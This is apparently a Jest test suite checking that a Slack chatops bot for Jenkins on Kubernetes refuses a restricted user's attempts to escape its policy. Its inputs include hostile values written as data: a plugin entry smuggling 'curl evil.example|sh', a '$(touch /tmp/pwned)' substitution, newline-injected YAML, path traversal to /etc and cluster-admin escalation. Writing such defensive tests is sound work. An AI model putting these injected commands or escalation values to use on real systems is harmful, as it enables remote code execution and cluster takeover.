// The escape suite: a chat user tries every way out of what the admin's policy grants, through the real Bolt HTTP
// receiver on loopback with correctly signed requests, the real command runner and a real (directory) target.
// Each attempt must be refused in words that name the policy, and must leave the target exactly as it was.
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { createCommandRunner } from '../../src/commands/create-runner.js';
import { loadPolicy } from '../../src/commands/policy.js';
import { createOperations } from '../../src/operations/index.js';
import { DirectoryTarget } from '../../src/targets/index.js';
import { createLogger } from '../../src/observability/logger.js';
import { startTestBot, waitFor, type TestBot } from '../slack/helpers/harness.js';
import { blockActionsBody, slashCommandBody } from '../slack/helpers/payloads.js';
import { SlackApiServer, blockTexts } from '../slack/helpers/slack-api-server.js';
import { Writable } from 'node:stream';
import { load } from 'js-yaml';
import { jcascLiteral, type Loose } from '../helpers/render.js';

const DEV_USER = 'U0DEVONLY';
const ADMIN = 'U0ADMIN01';

let work: string;
let dir: string;
let policyFile: string;
let auditLog = '';

beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), 'escape-'));
  dir = join(work, 'target');
  policyFile = join(work, 'policy.yaml');
  // dev's deployer may only touch instance dev; the global deployer may touch every instance.
  writeFileSync(policyFile, [
    'deployers: { users: [U0ADMIN01] }',
    'namespaces: [jenkins]',
    'images: [jenkins/, registry.example.com/ci/]',
    'hostPaths: [/data/jenkins]',
    'instances:',
    '  dev: { users: [U0DEVONLY], namespaces: [jenkins, dev-team] }',
    '',
  ].join('\n'));
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** Every file under the target with its content: "nothing was written" means this does not change. */
function snapshot(): string {
  const out: string[] = [];
  const walk = (d: string) => {
    let entries: string[] = [];
    try {
      entries = readdirSync(d).sort();
    } catch {
      return;
    }
    for (const e of entries) {
      const p = join(d, e);
      if (statSync(p).isDirectory()) walk(p);
      else out.push(`${p}\n${readFileSync(p, 'utf8')}`);
    }
  };
  walk(dir);
  return out.join('\n');
}

// Slack's Web API and response_urls on loopback, reached through SLACK_API_URL like every other Slack test.
let slack: SlackApiServer;
let bot: TestBot;
beforeAll(async () => {
  slack = await SlackApiServer.start();
});
afterAll(() => slack.close());
beforeEach(async () => {
  const sink = new Writable({ write(chunk: Buffer, _e, done) { auditLog += chunk.toString(); done(); } });
  const runner = createCommandRunner({
    operations: createOperations(new DirectoryTarget(dir)),
    policy: loadPolicy({ CHATOPS_AUTH_FILE: policyFile }),
    logger: createLogger({ level: 'info', destination: sink }),
  });
  bot = await startTestBot(runner, { SLACK_API_URL: slack.apiUrl });
});
afterEach(async () => {
  await bot.stop();
});

/** Sends `/jenkins <text>` as `user`, signed, and returns the text of the final answer the user got. */
async function run(text: string, user: string): Promise<string> {
  // Only what Slack received after this command was sent is its answer.
  const callsBefore = slack.calls.length;
  const responsesBefore = slack.responses.length;
  const response = await bot.post(slashCommandBody(text, { user, responseUrl: slack.commandResponseUrl }));
  expect(response.status).toBe(200);
  const recent = (method: string) => slack.calls.slice(callsBefore).filter((c) => c.method === method).at(-1)?.args;
  const latest = (): { text?: string; blocks?: unknown } | undefined =>
    (recent('chat.update') ?? slack.responses.slice(responsesBefore).at(-1)?.body ?? recent('chat.postEphemeral') ?? recent('chat.postMessage')) as { text?: string; blocks?: unknown } | undefined;
  const render = (m: { text?: string; blocks?: unknown }) => `${m.text ?? ''}\n${blockTexts(m.blocks ?? [])}`;
  // Progress titles end in "…"; the result replaces them.
  await waitFor(() => {
    const m = latest();
    return m !== undefined && !/…\s*$/.test(render(m).split('\n')[0]!);
  }, `the final answer to "${text}"`);
  return render(latest()!);
}

async function refused(text: string, user: string, ...expected: Array<RegExp | string>): Promise<void> {
  const before = snapshot();
  const answer = await run(text, user);
  for (const pattern of expected) expect({ text, answer }).toEqual({ text, answer: typeof pattern === 'string' ? expect.stringContaining(pattern) : expect.stringMatching(pattern) });
  expect(snapshot()).toBe(before);
}

describe('a chat user allowed only on dev', () => {
  it('deploys dev inside the bounds (the control case)', async () => {
    const answer = await run('deploy dev', DEV_USER);
    expect(answer).toMatch(/dev (created|written as files)/);
    expect(readdirSync(dir)).toContain('dev');
  });

  it('may still scale and delete its own instance (a confirmation click by the same user)', async () => {
    await run('deploy dev', DEV_USER);
    expect(await run('scale dev 0', DEV_USER)).toMatch(/dev set to 0 controllers|dev is hibernating/);
    expect(await run('delete dev', DEV_USER)).toMatch(/Delete dev\?/);
    const asked = slack.callsOf('chat.postMessage').at(-1)!;
    const buttons = (asked.args.blocks as Array<{ type: string; elements?: Array<{ action_id: string; value: string }> }>).find((b) => b.type === 'actions')!;
    const token = buttons.elements!.find((e) => e.action_id === 'jenkins_confirm')!.value;
    const clicked = await bot.post(blockActionsBody({ responseUrl: slack.actionResponseUrl, user: DEV_USER, actionId: 'jenkins_confirm', token, messageTs: '1700000000.000001' }));
    expect(clicked.status).toBe(200);
    await waitFor(() => JSON.stringify([...slack.callsOf('chat.update').map((c) => c.args), ...slack.responses.map((r) => r.body)]).includes('dev deleted'), 'dev deleted');
  });

  it.each([
    ['deploy dev namespace=kube-system', /namespace=kube-system is not allowed|`namespace` = `kube-system`/, /namespaces allowed from chat: jenkins, dev-team/, /instances\.dev\.namespaces/],
    ['deploy dev namespace=default', /`namespace` = `default`/, /instances\.dev\.namespaces/],
    ['deploy dev agents.namespace=kube-system', /`agents\.namespace` = `kube-system`/],
    ['deploy dev namespace=dev-team agents.namespace=kube-public', /`agents\.namespace` = `kube-public`/],
  ])('cannot reach another namespace: %s', async (text, ...patterns) => {
    await refused(text, DEV_USER, /Not allowed/, ...patterns);
  });

  it.each([
    ['deploy dev image=evil.io/jenkins:1', 'controller.image'],
    ['deploy dev controller.image=evil.io/jenkins:1', 'controller.image'],
    ['deploy dev controller.image=docker.io/library/ubuntu', 'controller.image'],
    ['deploy dev controller.reloadSidecarImage=evil.io/sidecar:1', 'controller.reloadSidecarImage'],
    ['deploy dev agent.image=evil.io/jnlp:1', 'agents.templates[0].jnlpImage'],
    ['deploy dev agents.templates[0].jnlpImage=registry.example.com/ci-evil/jnlp:1', 'agents.templates[0].jnlpImage'],
    ['deploy dev agents.templates[0].containers[0].name=x agents.templates[0].containers[0].image=evil.io/tool', 'agents.templates[0].containers[0].image'],
  ])('cannot run an image from outside the allowed registries: %s', async (text, key) => {
    await refused(text, DEV_USER, /Not allowed/, new RegExp(`\`${key.replace(/[[\].]/g, '\\$&')}\``), /images allowed from chat start with jenkins\/, registry\.example\.com\/ci\//);
  });

  it('may use an allowed registry (a prefix on whole path segments)', async () => {
    const answer = await run('deploy dev agent.image=registry.example.com/ci/jnlp:3', DEV_USER);
    expect(answer).not.toMatch(/Not allowed/);
  });

  it.each([
    ['deploy dev storage=static:10Gi hostPath=/etc', /\/etc is a system directory/],
    ['deploy dev storage=static:10Gi hostPath=/', /\/ is a system directory/],
    ['deploy dev storage=static:10Gi persistence.hostPath=/var/lib/kubelet/pods', /\/var\/lib\/kubelet is a system directory/],
    ['deploy dev storage=static:10Gi hostPath=/data/jenkins/../../etc', /may not contain \\?"\.\.\\?"/],
    ['deploy dev storage=static:10Gi hostPath=/data/jenkins-evil', /not under an allowed directory \(\/data\/jenkins\)/],
    ['deploy dev storage=static:10Gi hostPath=/srv/other', /not under an allowed directory/],
  ])('cannot mount a node directory outside the policy: %s', async (text, pattern) => {
    await refused(text, DEV_USER, /Not allowed/, /persistence\.hostPath/, pattern);
  });

  it.each([
    ['deploy dev agents.templates[0].serviceAccount=cluster-admin', /serviceAccount.*carries its own cluster permissions/s],
    ['deploy dev controller.adminSecret=prod-admin', /controller\.adminSecret.*always the instance's own/s],
    ['deploy dev agents.templates[0].tolerations[0].operator=Exists', /operator Exists|toleration/],
    ['deploy dev agents.templates[0].tolerations[0].key=node-role.kubernetes.io/control-plane', /control-plane|not a setting|key path/],
    ['deploy dev ingress.enabled=true ingress.host=login.example.com', /[Uu]nknown key 'ingress.enabled'|ingress.*only from a values file/s],
    ['deploy dev metrics.enabled=true', /[Uu]nknown key 'metrics.enabled'|metrics.*only from a values file/s],
    ['deploy dev metrics.enabled=true metrics.serviceMonitor=true', /[Uu]nknown key 'metrics.enabled'|metrics.*only from a values file/s],
    ['deploy dev networkPolicy.enabled=false', /[Uu]nknown key 'networkPolicy.enabled'|networkPolicy.*only from a values file/s],
    ['deploy dev clusterDomain=evil.example.com', /[Uu]nknown key 'clusterDomain'|clusterDomain.*only from a values file/s],
    ['deploy dev "jcasc.extra.realm=jenkins: {securityRealm: {local: {allowsSignup: true}}}"', /[Uu]nknown key 'jcasc\.extra\.realm'|jcasc.*only from a values file/s],
    ['deploy dev jcasc.trusted[0]=jobs', /[Uu]nknown key 'jcasc\.trusted\[0\]'|jcasc.*only from a values file/s],
    ['deploy dev credentials[0].id=x credentials[0].type=secretText credentials[0].secret=prod-admin', /[Uu]nknown key 'credentials\[0\]\.id'|credentials.*only from a values file/s],
    ['deploy dev controller.priorityClassName=system-cluster-critical', /controller\.priorityClassName.*only from a values file/s],
    ['deploy dev controller.tolerations[0].operator=Exists', /operator Exists|toleration/],
    ['deploy dev controller.affinity.nodeAffinity=x', /controller\.affinity|Affinity/],
  ])('cannot set a key that crosses the boundary: %s', async (text, pattern) => {
    await refused(text, DEV_USER, pattern);
  });

  it.each([
    ['deploy dev "controller.plugins[1]=git;curl evil.example|sh"', /plugins are written id or id:version/],
    ['deploy dev "controller.plugins[1]=git\n- --jenkins-update-center"', /plugins are written id or id:version/],
    ['deploy dev "controller.plugins[1]=$(touch /tmp/pwned)"', /plugins are written id or id:version/],
    ['deploy dev controller.plugins[1]=--plugin-download-directory', /each part starting with a letter or digit/],
    ['deploy dev controller.plugins[1]=git:5.7.0:https://evil.example/git.hpi', /plugins are written id or id:version/],
    ['deploy dev controller.plugins[1]=blueocean', /blueocean has no version pinned/, /blueocean:latest/],
  ])('cannot reach the install script, its options or an unpinned plugin through a plugin entry: %s', async (text, ...patterns) => {
    await refused(text, DEV_USER, /controller\.plugins\[1\]/, ...patterns);
  });

  it('may pin a plugin, which reaches the install script only as its own argument', async () => {
    const statefulSet = (): Loose => {
      const manifests = join(dir, 'dev', 'manifests');
      try {
        return readdirSync(manifests).map((f) => load(readFileSync(join(manifests, f), 'utf8')) as Loose).find((o) => o?.kind === 'StatefulSet');
      } catch {
        return undefined; // not written yet
      }
    };
    const answer = await run('deploy dev controller.plugins[2]=git:5.7.0 controller.plugins[4]=blueocean:latest', DEV_USER);
    expect(answer).not.toMatch(/Not allowed|invalid instance spec/);
    // An existing dev (earlier cases) is updated only after its deployer confirms the plan.
    const asked = /Apply these changes to dev\?/.test(answer) ? slack.callsOf('chat.postMessage').at(-1) : undefined;
    if (asked) {
      const buttons = (asked.args.blocks as Array<{ type: string; elements?: Array<{ action_id: string; value: string }> }>).find((b) => b.type === 'actions')!;
      const token = buttons.elements!.find((e) => e.action_id === 'jenkins_confirm')!.value;
      await bot.post(blockActionsBody({ responseUrl: slack.actionResponseUrl, user: DEV_USER, actionId: 'jenkins_confirm', token, messageTs: '1700000000.000002' }));
    }
    await waitFor(() => JSON.stringify(statefulSet() ?? {}).includes('blueocean:latest'), 'dev written with the new plugins');
    const install = statefulSet().spec.template.spec.initContainers.find((c: Loose) => c.name === 'install-plugins');
    expect(install.args).toEqual(expect.arrayContaining(['git:5.7.0', 'blueocean:latest']));
    expect(install.command.join(' ')).not.toMatch(/git:|blueocean/);
  });

  const V = 'agents.templates[0].volumes[0]';
  it.each([
    [`deploy dev ${V}.type=secret ${V}.secretName=dev-admin ${V}.mountPath=/s`, /volumes\[0\]\.secretName/, /a Secret volume hands the Secret/],
    [`deploy dev ${V}.type=persistentVolumeClaim ${V}.claimName=jenkins-home-prod-0 ${V}.mountPath=/prod`, /volumes\[0\]\.claimName/, /another instance's Jenkins home/],
    ['deploy dev agents.templates[0].secretEnvVars.T.secret=dev-casc-reload-token agents.templates[0].secretEnvVars.T.key=token', /secretEnvVars\.T/, /only a values file on the command line/],
    [`deploy dev ${V}.type=hostPath ${V}.hostPath=/etc ${V}.mountPath=/host`, /volumes\[0\]\.hostPath/, /only a values file on the command line may mount one/],
    [`deploy dev ${V}.type=hostPath ${V}.hostPath=/data/jenkins/jenkins/prod-0 ${V}.mountPath=/prod`, /volumes\[0\]\.hostPath/, /could hold another instance's Jenkins home/],
    ['deploy dev agents.templates[0].workspaceVolume.type=hostPath agents.templates[0].workspaceVolume.hostPath=/var/lib/kubelet', /workspaceVolume\.hostPath/, /only a values file on the command line may mount one/],
    ['deploy dev "agents.templates[0].annotations.note=a\nb: ${ADMIN_PASSWORD}"', /annotations\.note/, /acted on by other controllers/],
    ['deploy dev "agents.templates[0].yaml=metadata: {annotations: {a: \'${ADMIN_PASSWORD}\'}}"', /templates\[0\]\.yaml/, /raw pod YAML/],
  ])('cannot hand builds a Secret, a claim, a node directory, annotations or raw pod YAML: %s', async (text, ...patterns) => {
    await refused(text, DEV_USER, /Not allowed/, ...patterns);
  });

  it('a newline in a mount path is refused as bad input, nothing written', async () => {
    await refused(`deploy dev ${V}.type=emptyDir "${V}.mountPath=/cache\nevil: true"`, DEV_USER, /mountPath must be an absolute path/);
  });

  it('may add a pod-local volume, and ${ in a variable reaches JCasC escaped', async () => {
    const answer = await run(`deploy dev ${V}.type=emptyDir ${V}.mountPath=/cache "agents.templates[0].envVars.GREETING=\${ADMIN_PASSWORD}"`, DEV_USER);
    expect(answer).not.toMatch(/Not allowed/);
    const casc = join(dir, 'dev', 'jenkins.yaml');
    if (/Apply these changes to dev\?/.test(answer)) {
      // dev exists from an earlier case: the same user confirms the plan.
      const asked = slack.callsOf('chat.postMessage').at(-1)!;
      const buttons = (asked.args.blocks as Array<{ type: string; elements?: Array<{ action_id: string; value: string }> }>).find((b) => b.type === 'actions')!;
      const token = buttons.elements!.find((e) => e.action_id === 'jenkins_confirm')!.value;
      await bot.post(blockActionsBody({ responseUrl: slack.actionResponseUrl, user: DEV_USER, actionId: 'jenkins_confirm', token, messageTs: '1700000000.000002' }));
    }
    await waitFor(() => { try { return readFileSync(casc, 'utf8').includes('emptyDirVolume'); } catch { return false; } }, 'the new JCasC of dev');
    const template = (load(readFileSync(casc, 'utf8')) as Loose).jenkins.clouds[0].kubernetes.templates[0];
    expect(template.volumes).toEqual([{ emptyDirVolume: { mountPath: '/cache', memory: false } }]);
    expect(jcascLiteral(template.envVars[0].envVar.value)).toBe('$${ADMIN_PASSWORD}');
  });

  it('cannot change, read the password of, or delete another instance', async () => {
    await run('deploy prod', ADMIN);
    for (const text of ['deploy prod replicas=0', 'scale prod 0', 'password prod', 'delete prod --purge']) {
      await refused(text, DEV_USER, /Not allowed/, /may not run \w+ on instance prod|any instance/);
    }
  });

  it('a refusal is audited with the user, the command and the rule', async () => {
    await refused('deploy dev namespace=kube-system', DEV_USER, /Not allowed/);
    const records = auditLog.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as { audit?: Record<string, unknown> }).audit).filter((r) => r !== undefined);
    const record = records.find((r) => r.result === 'denied' && String(r.text).includes('kube-system'));
    expect(record).toMatchObject({ user: DEV_USER, command: 'deploy', instance: 'dev' });
    expect(String(record!.detail)).toMatch(/namespaces allowed from chat/);
  });
});

describe("an admin's values file (the command line): text in extra JCasC and credentials stays inert", () => {
  const deploy = (instance: string, values: Record<string, unknown>) =>
    createOperations(new DirectoryTarget(dir)).deploy({ instance, changes: [values], actor: { id: 'cli' } });
  const configMap = (instance: string): Loose => {
    const manifests = join(dir, instance, 'manifests');
    return readdirSync(manifests).map((f) => load(readFileSync(join(manifests, f), 'utf8')) as Loose).find((o) => o?.kind === 'ConfigMap' && o.metadata.name === `${instance}-casc`);
  };

  it('a newline in a credential description makes no key, and ${…} in it is not interpolated', async () => {
    const description = 'deploy key\n    password: ${jenkins-admin-password}';
    await deploy('creds', { credentials: [{ id: 'deploy', type: 'secretText', secret: 'deploy-token', description }] });
    const entry = (load(configMap('creds').data['jenkins.yaml']) as Loose).credentials.system.domainCredentials[0].credentials[0].string;
    expect(Object.keys(entry).sort()).toEqual(['description', 'id', 'scope', 'secret']);
    expect(jcascLiteral(entry.description)).toBe(description);
  });

  it('${…} in a fragment reaches JCasC escaped (the admin password stays where it is)', async () => {
    await deploy('frag', { jcasc: { extra: { mail: 'unclassified:\n  location:\n    adminAddress: "${jenkins-admin-password}"\n' } } });
    const fragment = load(configMap('frag').data['mail.yaml']) as Loose;
    expect(fragment.unclassified.location.adminAddress).toBe('^${jenkins-admin-password}');
  });

  it('a fragment that sets what the generated JCasC sets is refused, naming the path; nothing is written', async () => {
    const before = snapshot();
    const error = (await deploy('hijack', { jcasc: { extra: { url: 'unclassified:\n  location:\n    url: https://evil.example.com/\n' } } }).catch((e: unknown) => e)) as Error;
    expect(error.message).toMatch(/jcasc\.extra\.url: fragment url sets unclassified\.location\.url, which the generated jenkins\.yaml sets already/);
    expect(snapshot()).toBe(before);
  });
});

describe('read-only commands look only at namespaces in the policy', () => {
  it('status of a bounded caller does not list an instance in another namespace', async () => {
    // The operator put an instance in a namespace chat may not reach.
    const operator = createCommandRunner({ operations: createOperations(new DirectoryTarget(dir)), policy: loadPolicy({}) });
    const replies: string[] = [];
    await operator.handle('deploy hidden namespace=other-team', { userId: 'console', transport: 'console' }, {
      progress: async () => undefined,
      result: async (m) => void replies.push(m.title),
      confirm: async () => undefined,
    });
    expect(replies.at(-1)).toMatch(/hidden (created|written as files)/);
    const listing = await run('status', DEV_USER);
    expect(listing).not.toMatch(/hidden/);
    await refused('diff hidden replicas=0', DEV_USER, /Not allowed/, /namespace/);
    await refused('status hidden', DEV_USER, /No instance named hidden/);
  });
});

describe('the console with a policy file', () => {
  it('is held to the same bounds; without one the local operator is not', async () => {
    const answers: string[] = [];
    const reply = { progress: async () => undefined, result: async (m: { title: string; blocks: unknown[] }) => void answers.push(`${m.title} ${JSON.stringify(m.blocks)}`), confirm: async () => undefined };
    const caller = { userId: 'console', transport: 'console' as const };
    const bounded = createCommandRunner({ operations: createOperations(new DirectoryTarget(dir)), policy: loadPolicy({ CHATOPS_AUTH_FILE: policyFile }) });
    const before = snapshot();
    await bounded.handle('deploy local agents.templates[0].serviceAccount=admin', caller, reply);
    expect(answers.at(-1)).toMatch(/Not allowed.*serviceAccount/);
    await bounded.handle('deploy local namespace=kube-system', caller, reply);
    expect(answers.at(-1)).toMatch(/Not allowed.*namespaces allowed from chat: jenkins/);
    expect(snapshot()).toBe(before);
    const open = createCommandRunner({ operations: createOperations(new DirectoryTarget(dir)), policy: loadPolicy({}) });
    await open.handle('deploy local namespace=team-b', caller, reply);
    expect(answers.at(-1)).toMatch(/local (created|written as files)/);
  });
});
